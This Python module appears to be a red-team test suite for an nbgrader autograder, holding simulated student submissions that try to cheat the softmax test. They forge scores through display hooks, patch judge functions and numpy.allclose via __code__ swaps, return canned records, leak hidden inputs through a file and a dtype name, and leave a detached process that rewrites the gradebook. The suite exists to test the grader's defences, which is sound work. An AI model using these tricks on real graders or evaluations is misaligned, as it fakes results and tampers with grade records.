"""Red-team cases against the judged test cells (issue 26): each one student's submission.

Written by a second engineer who did not write JudgedExecute. In every attack ``my_softmax`` is
WRONG where it is not computed honestly and the model is right (an honest student scores 20/20,
a wrong softmax 10/20). Only the cases that each test a distinct defence are kept: a forged
partial credit (``rj_displayhook``), the kernel's judge patched in place (``rj_code_swap``), a
canned record (``rj_canned``), hidden inputs smuggled out through the judge's message and a file
(``rj_leak_dtype``), and a process that outlives the kernel (``rj_daemon``, plain path only).

The sandboxed path grades them in the red team's batch (tests/grading/isolation/test_redteam.py),
the plain path in tests/grading/test_redteam_judged.py. ``fair`` says why ``expected`` is fair.
"""
from __future__ import annotations

import os
import re
import subprocess
import sys
import time
from pathlib import Path

import nbformat
import psutil

from helpers.courses import gradebook_scores, lab_base, lab_course, submit
from helpers.faults import FULL, GOOD_MODEL, GOOD_SOFTMAX, NO_SOFTMAX, WRONG_SOFTMAX, Case, Edit, answer
from helpers.faults import student_notebook
from helpers.repo import LAB, SOURCE_NB

from grading.extensions.judgedexecute import test_cells

#: marker the leaking cases put in front of what they smuggle out of a hidden call
LEAK_MARKER = "HID:"
#: argument of the plain-path gradebook daemon (found with psutil, then waited for)
DAEMON_MARKER = "redteam-judged-daemon"
#: file the leaking case writes next to its notebook during the hidden calls
LEAK_FILE = "hidden_leak.txt"

# The public inputs (the kit has them) and "am I called by the course's probe?"; shared by the
# cases that behave differently for the public test, the hidden test and everything else.
DETECT = '''
import inspect as _inspect
from public_tests.softmax_tests import SOFTMAX_CASES as _PUBLIC

def _true_softmax(z):
    z = np.asarray(z, dtype=np.float64)
    e = np.exp(z - np.max(z))
    return e / e.sum()

def _is_public(z):
    return any(np.shape(z) == c.shape and np.array_equal(z, c) for _, c in _PUBLIC)

def _from_probe():
    f = _inspect.currentframe()
    while f is not None:
        if f.f_code.co_name == "probe" and f.f_globals.get("__name__") == "public_tests.softmax_tests":
            return True
        f = f.f_back
    return False
'''


#: the model cell also makes Keras train 1 epoch instead of 40 (the honest student's too): the
#: cells after the last test cell cannot change a grade, and the plain path runs them
QUICK_FIT = '''
_keras_fit = Sequential.fit
def _one_epoch(self, *args, **kwargs):
    kwargs["epochs"] = 1
    return _keras_fit(self, *args, **kwargs)
Sequential.fit = _one_epoch
'''


def _softmax(code: str) -> list[Edit]:
    return [answer("my_softmax", code), answer("my_model", GOOD_MODEL + QUICK_FIT)]


# --- forging partial credit or a verdict from kernel output -----------------------------------
DISPLAYHOOK = WRONG_SOFTMAX + '''
import sys
from IPython.display import display
ip = get_ipython()
# every cell the kernel runs from now on (the probes included) ends with the result 10
ip.events.register("post_run_cell", lambda result: ip.displayhook(10))
_old = my_softmax
def my_softmax(z):
    sys.displayhook(10)
    display(10)
    ip.display_pub.publish({"text/plain": "10"})
    return _old(z)
'''

# --- patching the kernel's copy of the tests and the record ----------------------------------
CODE_SWAP = WRONG_SOFTMAX + '''
import numpy, public_tests.softmax_judge as _sj, public_tests.evidence as _ev, public_tests.judged as _jd
from public_tests._common import Verdict
def _pass(*args, **kwargs):
    return Verdict(True)
def _true(*args, **kwargs):
    return True
def _same(record, *args, **kwargs):
    return record
for _f in (_sj.judge, _sj.judge_hidden, _jd.judge_text):
    _f.__code__ = _pass.__code__
_ev.from_json.__code__ = (lambda data: __import__("json").loads(data)).__code__
_sj._close.__code__ = _true.__code__
numpy.allclose.__code__ = _true.__code__
'''

CANNED_RECORD = WRONG_SOFTMAX + DETECT + '''
import json, public_tests.judged as _jd, public_tests.softmax_tests as _st, public_tests.evidence as _ev
# the record of a true softmax on the PUBLIC inputs, made once and handed back for every call
_CANNED = _ev.to_json(_st.probe(_true_softmax, [z for _, z in _PUBLIC]))
_real_run = _jd.run
def _run(name, answer, payload_json):
    if "softmax" in name:
        _jd._evidence = _CANNED
    else:
        _real_run(name, answer, payload_json)
def _take():
    out, _jd._evidence = _jd._evidence or "", None
    return out
_jd.run, _jd.take = _run, _take
'''

# --- smuggling hidden inputs into feedback ----------------------------------------------------
LEAK_DTYPE = DETECT + f'''
import pathlib
def my_softmax(z):
    if _is_public(z):
        return _true_softmax(z)
    if _from_probe():
        # a hidden input: write it next to the notebook, and name a structured dtype after it
        # (the judge's "could not read" message quotes the dtype it could not parse)
        with open({LEAK_FILE!r}, "a") as f:
            f.write(repr(np.asarray(z).tolist()) + "\\n")
        text = {LEAK_MARKER!r} + " ".join(f"{{v:.6g}}" for v in np.ravel(z))
        return np.zeros(np.shape(z), dtype=[(text[:60], "f8")])
    return np.exp(z)
'''

# --- persisting beyond the kernel: the gradebook after nbgrader exits (plain path) -------------
DAEMON_MODEL = f'''import os, subprocess, sys
_daemon = r"""
import os, sys, time
grader, here = int(sys.argv[2]), sys.argv[3]
end = time.time() + 1500
while time.time() < end:
    try:
        os.kill(grader, 0)
    except ProcessLookupError:
        break
    time.sleep(0.2)
parts = os.path.abspath(here).split(os.sep)
student, course = parts[-2], os.sep.join(parts[:-3])
from nbgrader.api import Gradebook
with Gradebook("sqlite:///" + os.path.join(course, "gradebook.db")) as gb:
    grade = gb.find_grade("test_my_softmax", "multiclass_digits", "multiclass_digits", student)
    grade.manual_score = 10.0
    gb.db.commit()
"""
subprocess.Popen([sys.executable, "-c", _daemon, {DAEMON_MARKER!r}, str(os.getppid()), os.getcwd()],
                 start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                 stderr=subprocess.DEVNULL)
''' + GOOD_MODEL

CASES: list[Case] = [
    Case("rj_good", "honest answers", _softmax(GOOD_SOFTMAX), FULL, fair="full marks"),
    Case("rj_displayhook", "execute_result/display of 10 from every call and after every cell "
         "(partial credit)", _softmax(DISPLAYHOOK), NO_SOFTMAX,
         fair="test cells' outputs are the grader's: no kernel output is read as a score"),
    Case("rj_code_swap", "__code__ swaps of the kernel's judge, from_json, _close, numpy.allclose",
         _softmax(CODE_SWAP), NO_SOFTMAX, fair="the kernel's copy of the judge is never asked"),
    Case("rj_canned", "run/take replaced: every softmax call answered with a true record of the "
         "PUBLIC inputs", _softmax(CANNED_RECORD), NO_SOFTMAX,
         fair="public passes (the record is right for the public inputs); hidden judged on its own inputs: 0"),
    Case("rj_leak_dtype", "right on public inputs; on hidden ones a structured dtype named after "
         "the input (the judge once quoted it) and a file next to the notebook", _softmax(LEAK_DTYPE),
         NO_SOFTMAX, fair="softmax part 0; the judge's message shows no hidden input"),
    Case("rj_daemon", "the model cell leaves a process that sets the softmax grade to 10 in the "
         "gradebook once the grader exits", [answer("my_softmax", WRONG_SOFTMAX),
                                              answer("my_model", DAEMON_MODEL + QUICK_FIT)], NO_SOFTMAX,
         fair="a grade is what the grader wrote: softmax part 0 (the plain path cannot stop it)"),
]
#: the cases graded in the sandboxed red-team batch (its honest student is its own)
SANDBOXED = ("rj_displayhook", "rj_code_swap", "rj_canned", "rj_leak_dtype")


# --- grading the cases on the plain path, in one batch --------------------------------------------
def _nbgrader(course: Path, *args: str) -> subprocess.CompletedProcess:
    env = dict(os.environ)
    env["PATH"] = f"{Path(sys.executable).parent}{os.pathsep}{env.get('PATH', '')}"  # nbgrader runs alembic
    return subprocess.run([sys.executable, "-m", "nbgrader", *args], cwd=course, env=env,
                          capture_output=True, text=True, timeout=3000)


def prepare_course(root: Path, cases: list[Case] = CASES) -> Path:
    """A course folder under ``root`` with the lab released and one submission per case."""
    course = lab_course(root, mechanics=True)
    base = lab_base(mechanics=True)
    for case in cases:
        submit(course, LAB, case.name, student_notebook(base, case))
    return course


def wait_for_daemons(timeout: float = 60.0) -> list[int]:
    """Wait for the gradebook daemons of ``rj_daemon`` to finish; the pids still alive after."""
    end = time.monotonic() + timeout
    while True:
        alive = [p.pid for p in psutil.process_iter(["cmdline"]) if DAEMON_MARKER in (p.info["cmdline"] or [])]
        if not alive or time.monotonic() > end:
            return alive
        time.sleep(0.5)


def grade_plain(course: Path) -> str:
    """``nbgrader generate_assignment``, ``autograde`` and ``generate_feedback`` in ``course`` (the
    plain path, this repo's nbgrader_config.py); their output. Raises if a step other than
    autograde fails (autograde exits nonzero when one notebook failed)."""
    proc = _nbgrader(course, "generate_assignment", LAB, "--force")
    if proc.returncode != 0:
        raise RuntimeError(f"generate_assignment failed:\n{proc.stdout}{proc.stderr}"[-5000:])
    proc = _nbgrader(course, "autograde", LAB, "--force")
    out = [proc.stdout + proc.stderr, f"[autograde exit status {proc.returncode}]"]
    wait_for_daemons()
    proc = _nbgrader(course, "generate_feedback", LAB, "--force")
    if proc.returncode != 0:
        raise RuntimeError(f"generate_feedback failed:\n{proc.stdout}{proc.stderr}"[-5000:])
    out.append(proc.stdout + proc.stderr)
    return "\n".join(out)


def scores(course: Path) -> dict[str, dict[str, float]]:
    """{student: {grade_id: score}} from the course's gradebook."""
    return gradebook_scores(f"sqlite:///{course / 'gradebook.db'}", "multiclass-digits", LAB)


def hidden_values() -> list[str]:
    """The first hidden softmax inputs as the leaking case writes them (6 significant digits)."""
    nb = nbformat.read(SOURCE_NB, as_version=4)
    calls = [c for t in test_cells(nb).values() for c in t.hidden_calls if c.test.name == "hidden_test_my_softmax"]
    cases = calls[0].payload()["cases"]
    return [f"{v:.6g}" for rec in cases[:3] for v in rec["values"]]


def leaks(course: Path, student: str) -> dict[str, list[str]]:
    """{file: what it shows of the marker and the hidden values} over the student's autograded
    folder and feedback folder (every file; the leak file is listed even if empty)."""
    values = hidden_values()
    found: dict[str, list[str]] = {}
    for top in (course / "autograded" / student / LAB, course / "feedback" / student / LAB):
        for path in sorted(top.rglob("*")) if top.is_dir() else []:
            if not path.is_file():
                continue
            text = path.read_text(errors="replace")
            # the marker followed by a value (the case's own source, in every notebook, has it quoted)
            hits = re.findall(re.escape(LEAK_MARKER) + r"[-\d.]+", text) + [v for v in values if v in text]
            if hits or path.name == LEAK_FILE:
                found[str(path.relative_to(course))] = hits
    return found
